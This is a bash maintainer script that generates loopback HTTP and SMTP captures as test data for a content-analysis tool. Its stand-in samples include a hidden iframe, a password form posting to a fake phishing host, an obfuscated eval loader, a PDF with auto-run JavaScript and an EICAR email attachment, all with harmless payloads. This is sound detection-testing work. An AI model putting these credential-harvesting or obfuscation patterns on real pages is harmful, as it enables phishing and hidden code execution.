#!/usr/bin/env bash
# Recreates the content-analysis captures (maintainer script, not run in CI).
# Needs: nginx curl swaks tcpdump zip gcc-mingw-w64-x86-64 python3-aiosmtpd
# (apt). Loopback only. Everything served is harmless: the "obfuscated"
# script only sets document.title, the PDF's JavaScript only calls
# app.alert, the PE prints a line, and EICAR is the anti-virus test file.
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd); W=$(mktemp -d); mkdir -p "$W/www"
cd "$W/www"
# Benign: a shop page with its own script, a login form to itself, a visible frame.
cat > index.html <<'H'
<!DOCTYPE html><html><head><title>Shop - Home</title><script src="/app.js"></script></head>
<body><h1>Welcome</h1><img src="/logo.png" alt="logo"><iframe src="/ads/banner.html" width="468" height="60"></iframe>
<form action="/login" method="post"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>
<a href="/about.html">About</a> <a href="/report.pdf">Annual report</a></body></html>
H
cat > app.js <<'H'
// Menu toggle for the shop.
function toggle(id) { var e = document.getElementById(id); e.classList.toggle("open"); }
document.addEventListener("DOMContentLoaded", function () { toggle("menu"); });
H
# Suspicious: a hidden frame, an obfuscated (harmless) script, and a
# password form that posts to another site.
cat > landing.html <<'H'
<!DOCTYPE html><html><head><title>Account verification</title><script src="/obf.js"></script></head>
<body><p>Please confirm your account.</p>
<iframe src="http://ads.tracker-evil.test/c.php?id=7" width="0" height="0" frameborder="0"></iframe>
<form action="http://collect.phish-evil.test/gate.php" method="POST"><input name="email"><input type="password" name="pw"><input type="submit"></form>
<script>var _k = "ev" + "al"; var s = unescape("%64%6F%63%75%6D%65%6E%74%2E%74%69%74%6C%65%3D%27%68%69%27"); window[_k](s);
var t = String.fromCharCode(104,105); document.write("<ifr" + "ame src='/x' width=1 height=1></iframe>");</script>
</body></html>
H
python3 - <<'P'
import base64
inner = "document.title = 'hello from a harmless test script';"
b = base64.b64encode(inner.encode()).decode()
esc = ''.join('\\x%02x' % ord(c) for c in 'document')
open('obf.js', 'w').write(
    "var _0x1a=['" + esc + "','\\x74\\x69\\x74\\x6c\\x65'];var _0x2b=function(_0x3c){return _0x1a[_0x3c]};\n"
    "var _0x4d='at'+'ob', _0x5e='ev'+'al';\n"
    f"var _0x6f=window[_0x4d]('{b}');\n"
    "var _0x7a=String.fromCharCode(0x68,0x69)+unescape('%21');\n"
    "eval(_0x6f);\n")
P
printf '%%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%%%EOF\n' > report.pdf
printf '%%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n3 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\("netsift test"\\);) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%%%EOF\n' > invoice.pdf
cat > hello.c <<'C'
#include <windows.h>
int main(void) { MessageBoxA(NULL, "netsift test", "hello", MB_OK); ExitProcess(0); }
C
x86_64-w64-mingw32-gcc -Os -s -o hello.exe hello.c -luser32
zip -q -X tool.zip hello.exe && rm hello.exe hello.c
printf 'Release notes\nVersion 1.2: bug fixes.\n' > notes.txt && zip -q -X readme.zip notes.txt && rm notes.txt
cd "$W"
# EICAR (https://www.eicar.org/download-anti-malware-testfile/), assembled
# here so the repository holds no copy of it.
printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-' 'ANTIVIRUS-TEST-FILE!$H+H*' > eicar.com
printf 'Minutes of the meeting.\n' > minutes.txt
# nginx's workers run unprivileged: the served tree must be readable.
chmod 755 "$W" "$W/www"; chmod 644 "$W"/www/*
sed "s#/tmp/content#$W#g" "$HERE/nginx.conf" > "$W/nginx.conf"
tcpdump -i lo -w "$HERE/http.pcap" -s 0 'tcp port 18090' & TD=$!; sleep 1
nginx -c "$W/nginx.conf" & NG=$!; sleep 1
for p in index.html app.js landing.html obf.js report.pdf invoice.pdf tool.zip readme.zip; do
  curl -s -o /dev/null -H 'Host: www.shop.test' "http://127.0.0.1:18090/$p"
done
sleep 1; kill $NG; sleep 0.5; kill $TD
python3 -m aiosmtpd -n -l 127.0.0.1:2526 & SM=$!; sleep 1
tcpdump -i lo -w "$HERE/smtp.pcap" -s 0 'tcp port 2526' & TD=$!; sleep 1
swaks --server 127.0.0.1:2526 --from mallory@example.test --to bob@example.test \
  --header "Subject: your invoice" --body "see attached" \
  --attach-type application/octet-stream --attach "$W/eicar.com" \
  --attach-type text/plain --attach "$W/minutes.txt"
sleep 1; kill $TD; kill $SM
sha256sum www/* eicar.com minutes.txt
rm -rf "$W"
